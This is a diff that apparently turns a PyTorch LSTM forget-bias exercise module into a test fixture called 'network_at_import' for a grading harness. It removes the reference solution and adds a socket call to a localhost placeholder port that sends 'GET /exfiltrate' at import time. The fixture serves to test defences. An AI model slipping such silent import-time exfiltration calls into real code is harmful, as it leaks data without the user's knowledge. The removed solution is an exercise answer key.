@@ -1,16 +1,6 @@
 # Attack "network_at_import" (tests/attacks): the module opens a connection to 127.0.0.1 (nothing listens there) at import.
-# Everything else in this module is the reference solution.
-"""Opening the LSTM's forget gate at the start of training.
-
-A forget gate near 0.5 halves the cell state at every step, so after a dozen steps
-nothing of the start is left. A forget bias of 1.0 (gate near 0.73) keeps the
-additive cell path open, which is why every LSTM implementation has this knob.
-"""
-
-import torch
-from torch import nn
-import os
-import sys
+# Appended to the base module: these definitions replace its own of the same names.
+import socket
 
 # -- the attack ---------------------------------------------------------------------------
 ATTACK = "@@NAME@@"
@@ -28,43 +18,11 @@ def _escape(what: str) -> None:
             pass
 
 
-import socket
-
 _escape("a network request at import")
+
+
 try:
     with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=1) as connection:
         connection.sendall(b"GET /exfiltrate HTTP/1.0\r\n\r\n")
 except OSError:
     pass
-
-
-def set_forget_bias(lstm: nn.LSTM, value: float = 1.0) -> nn.LSTM:
-    """Give the forget gate an effective bias of `value`, in place, everywhere.
-
-    PyTorch stacks the four gate biases as (input, forget, cell, output) blocks of
-    `hidden_size` entries, so the forget block is [H:2H] of every `bias_ih_l*` and
-    `bias_hh_l*` parameter. The gate sees bias_ih + bias_hh; set bias_ih's block to
-    `value` and bias_hh's block to 0. Everything else stays as it was.
-
-    Shapes: for each layer k (and each `_reverse` direction), `bias_ih_lk` and
-    `bias_hh_lk` are (4 * hidden_size,). Returns the same `lstm` object.
-
-    Lesson: Day 2; the demos "PyTorch stacks the four gate biases as (input,
-    forget, cell, output)" and "PyTorch keeps two biases".
-    Traps: the forget block is the second quarter, not the first or the last;
-    setting both biases doubles the effective value; a stacked or bidirectional
-    LSTM has a pair of biases per layer and per direction; assigning a new tensor
-    replaces the Parameter, so an optimizer built earlier stops updating it:
-    write into the existing parameters under torch.no_grad().
-    """
-    # TODO 6 · forget-bias init: for every layer and direction, write `value` into
-    # the forget block of bias_ih and 0 into the forget block of bias_hh, in place.
-    hidden = lstm.hidden_size
-    forget = slice(hidden, 2 * hidden)
-    with torch.no_grad():
-        for name, parameter in lstm.named_parameters():
-            if name.startswith("bias_ih"):
-                parameter[forget] = value
-            elif name.startswith("bias_hh"):
-                parameter[forget] = 0.0
-    return lstm
